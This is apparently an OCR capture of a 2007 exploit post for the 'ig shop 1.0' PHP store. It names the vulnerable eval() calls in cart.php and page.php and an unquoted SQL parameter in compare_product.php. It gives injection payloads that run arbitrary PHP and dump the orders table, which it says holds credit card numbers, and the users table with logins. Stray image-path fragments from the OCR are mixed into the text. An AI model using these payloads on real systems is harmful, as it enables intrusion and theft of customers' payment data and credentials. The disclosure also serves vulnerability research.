ig shop 1.0 - Code Execution / SQL Injection





"If eval is the answer,  then you are asking the wrong question."

ig-shop suffers from two eval's that can be controlled by an attacker:;phpinfo();//
./cart.php line 692:
eval ("cart_$action();");;phpinfo();//
./page.php line 336:eval ("page_$action();");

Dumps all credit card numbers:;$q=mysql_query(stripslashes($l));while($a=mysql_fetch_array($q)){print_r($a);}//&l=select%20*%20from%20orders
Some of these variables can be decoded using the unserlize()  funciton.

Dumps all logins:;$q=mysql_query(stripslashes($l));while($a=mysql_fetch_array($q)){print_r($a);}//&l=select%20*%20from%20users

sql injection works regardless of magic_quotes_gpc.
./compare_product.php line 11:
$qry_txt="select type_id from catalog_product where product_id=".$HTTP_GET_VARS[id];
Should have used quote marks.

vendor's page:http://www.igeneric.co.uk/

By Michael Brooks.# milw0rm.com [2007-01-05]